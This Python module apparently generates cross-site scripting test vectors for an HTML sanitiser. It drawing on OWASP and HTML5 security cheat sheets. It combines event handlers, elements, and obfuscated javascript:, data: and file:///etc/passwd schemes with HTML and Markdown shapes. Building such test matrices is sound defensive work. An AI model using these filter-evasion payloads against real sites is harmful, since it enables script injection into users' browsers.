"""Known ways to put a script into a text: a matrix of elements, handlers and disguises, and strings that are known from practice and from the literature.

Sources of the strings in injection.json: the OWASP cheat sheet on filter evasion, the HTML5 security cheat sheet, and published attacks on sanitisers by
text that changes while it is read (mutation).
"""

import json
from pathlib import Path

HANDLERS = "onerror onload onclick onmouseover onfocus onanimationstart ontoggle onpointerrawupdate onbeforeinput ONERROR"
ELEMENTS = "img src=x|svg|body|input autofocus|video src=x|audio src=x|details open|marquee|a href=#|div|p|td|table|math"
SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "\u0001javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "blob:https://example.org/1",
    "feed:javascript:alert(1)",
    "view-source:javascript:1",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "jar:javascript:alert(1)!/",
    "about:blank",
    "filesystem:https://example.org/x",
    "\u00a0javascript:alert(1)",
)
IN_AN_ADDRESS = (
    "<a href='{}'>x</a>",
    "<img src='{}' alt='a'>",
    "<form action='{}'><button>x</button></form>",
    "<iframe src='{}'></iframe>",
    "[x]({})",
    "![x]({})",
    "<{}>",
)


def vectors() -> list[str]:
    """Every string, each once."""
    known = json.loads((Path(__file__).parent / "injection.json").read_text())
    handled = [f"<{element} {handler}=alert(1)>x" for element in ELEMENTS.split("|") for handler in HANDLERS.split()]
    addressed = [shape.format(scheme) for shape in IN_AN_ADDRESS for scheme in SCHEMES]
    return list(dict.fromkeys([*known, *handled, *addressed]))
